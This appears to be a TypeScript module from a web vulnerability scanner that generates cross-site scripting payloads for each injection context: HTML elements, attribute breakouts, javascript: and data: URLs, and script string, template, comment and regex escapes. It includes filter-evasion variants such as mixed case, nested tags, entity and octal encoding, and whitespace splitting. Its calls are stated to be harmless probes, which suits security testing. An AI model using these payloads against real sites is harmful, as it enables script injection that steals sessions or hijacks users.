import type { Encoding, Encodings, Quote } from './reflections.ts';
import type { CodePlace } from './script.ts';

/** Texts that run a harmless call of ours, by the place where they stand. */

export type Payload = {
  text: string;
  /** The piece of program in it, as it must stand in the page. */
  call: string;
  /** Already written for the wire. */
  raw?: boolean;
};

/** How our function may be called: plainly, without parentheses, as entities, with signs only. */
export type Calls = { plain: string; tagged: string; entities: string; signs: string };

const entities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)!};`).join('');
const octal = (text: string): string =>
  [...text].map((char) => `\\${char.codePointAt(0)!.toString(8)}`).join('');

export function callsOf(mark: string, id: number): Calls {
  const plain = `${mark}(${id})`;
  return {
    plain,
    tagged: `${mark}\`${id}\``,
    entities: entities(plain),
    // Lives through filters that change the case of letters.
    signs: `[]['${octal('at')}']['${octal('constructor')}']('${octal(plain)}')()`,
  };
}

export const as = (call: string, ...texts: string[]): Payload[] => texts.map((text) => ({ text, call }));
export const after = (prefix: string, list: readonly Payload[]): Payload[] =>
  list.map((one) => ({ ...one, text: prefix + one.text }));

export function elements(
  { plain, tagged, entities: coded }: Calls,
  encodings: Encodings,
  sameCase: boolean,
): Payload[] {
  if (!sameCase)
    return as(
      plain,
      `<svg onload=${coded}>`,
      `<img src onerror="${coded}">`,
      `<details open ontoggle=${coded}>`,
    );
  const around = [
    ...as(plain, `<sVg/OnLoAd=${plain}//`, `<scr<script>ipt>${plain}</scr</script>ipt>`),
    ...as(plain, `<svg ononload=load=${plain}>`, `<<b>svg onload=${plain}//`),
  ];
  if (encodings.less === 'gone') return around;
  return [
    ...as(plain, `<svg onload=${plain}>`, `<script>${plain}</script>`, `<img src onerror=${plain}>`),
    ...around.slice(0, 2),
    ...as(plain, `<details open ontoggle=${plain}>`),
    ...as(tagged, `<svg onload=${tagged}>`),
    ...as(
      plain,
      `<svg onload=${coded}>`,
      `<x tabindex=1 autofocus onfocus=${plain}>`,
      `<iframe src=javascript:${plain}>`,
    ),
    ...around.slice(2),
    ...as(
      plain,
      `<ScRiPt\n>${plain}</sCrIpT\t>`,
      `<svg\fonload=${plain}>`,
      `<input autofocus onfocus=${plain}>`,
    ),
    ...as(plain, `<script src=data:,${plain}></script>`, `<video><source onerror=${plain}>`),
    ...as(plain, `<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=${plain}>`),
    ...as(
      plain,
      `<svg><animate onbegin=${plain} attributeName=x dur=1s>`,
      `<a href="java&Tab;script:${plain}">${plain}</a>`,
    ),
  ];
}

export function attributes(calls: Calls, quote: Quote, tag: string, sameCase: boolean): Payload[] {
  const call = sameCase ? calls.plain : calls.entities;
  const { plain, tagged } = calls;
  const begin = quote === '' ? 'x' : quote;
  const own = /^(img|script|video|audio)$/.test(tag) ? [`${begin} onerror=${call} src=/${quote}`] : [];
  if (tag === 'body' || tag === 'svg') own.push(`${begin} onload=${call} x=${quote}`);
  return [
    ...as(
      plain,
      ...own,
      `${begin} autofocus tabindex=1 onfocus=${call} x=${quote}`,
      `${begin} onmouseover=${call} x=${quote}`,
    ),
    // The one event of elements that nobody sees.
    ...as(
      plain,
      `${begin} style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${call} x=${quote}`,
    ),
    ...as(tagged, `${begin} autofocus tabindex=1 onfocus=${tagged} x=${quote}`),
    ...(quote === '' ? [] : as(plain, `${quote}/autofocus/onfocus=${quote}${call}`)),
    ...as(
      plain,
      `${begin}\nautofocus\ntabindex=1\nOnFocus=${call}\nx=${quote}`,
      `${begin}\fautofocus\fonfocus=${call}\fx=${quote}`,
    ),
    ...as(plain, `${begin} ononfocus=focus=${call} autofocus tabindex=1 x=${quote}`),
  ];
}

export function addresses({ plain, tagged }: Calls, tag: string): Payload[] {
  if (tag === 'script') return as(plain, `data:,${plain}`, `data:text/javascript,${plain}`);
  return [
    ...as(plain, `javascript:${plain}`, `JaVaScRiPt:${plain}`, `java\tscript:${plain}`),
    ...as(
      plain,
      ` javascript:${plain}`,
      `javascript://example.com/%0a${plain}`,
      `javajavascript:script:${plain}`,
    ),
    ...as(tagged, `javascript:${tagged}`),
    ...as(
      plain,
      `\u0001javascript:${plain}`,
      `java\nscript:${plain}`,
      `javascript:${plain}//http://`,
      `javascript:${plain.replace('(', '%28')}`,
    ),
  ];
}

/** Ways out of a piece of text in a script; `encoding` is what becomes of its quotation mark. */
export function inScript(calls: Calls, place: CodePlace, encoding: Encoding, sameCase: boolean): Payload[] {
  const { tagged } = calls;
  const plain = sameCase ? calls.plain : calls.signs;
  switch (place) {
    case 'single':
    case 'double': {
      const quote = place === 'single' ? "'" : '"';
      // A backslash before ours makes theirs a sign of its own.
      if (encoding === 'escaped')
        return as(
          plain,
          `\\${quote};${plain}//`,
          `\\${quote});${plain}//`,
          `\\${quote}});${plain}//`,
          `\\${quote}]);${plain}//`,
        );
      return [
        ...as(
          plain,
          `${quote}-${plain}-${quote}`,
          `${quote};${plain}//`,
          `${quote}+${plain}+${quote}`,
          `${quote});${plain}//`,
        ),
        ...as(tagged, `${quote}-${tagged}-${quote}`),
        ...as(
          plain,
          `${quote}});${plain}//`,
          `${quote};}${plain};{//`,
          `${quote},${plain},${quote}`,
          `${quote}]);${plain}//`,
        ),
        ...as(plain, `${quote}\n;${plain}//`, `${quote}:${plain},x:${quote}`, `${quote}});});${plain}//`),
      ];
    }
    case 'template':
      return [
        ...as(plain, `\${${plain}}`, `\`-${plain}-\``, `\`;${plain}//`),
        ...as(tagged, `\${${tagged}}`),
      ];
    case 'line-comment':
      return as(plain, `\n${plain}//`, `\r${plain}//`, `\u2028${plain}//`);
    case 'block-comment':
      return as(plain, `*/${plain}/*`, `*/;${plain};/*`);
    case 'regex':
      return as(plain, `x/-${plain}-/x`, `x/;${plain}//`, `x/);${plain}//`);
    case 'code':
      return [
        ...as(plain, plain, `1;${plain}`, `1;${plain}//`),
        ...as(tagged, tagged),
        ...as(
          plain,
          `1);${plain}//`,
          `x=${plain}`,
          `1});${plain}//`,
          `x:${plain}`,
          `1]);${plain}//`,
          `\n${plain}\n`,
          `{};${plain}//`,
        ),
      ];
  }
}
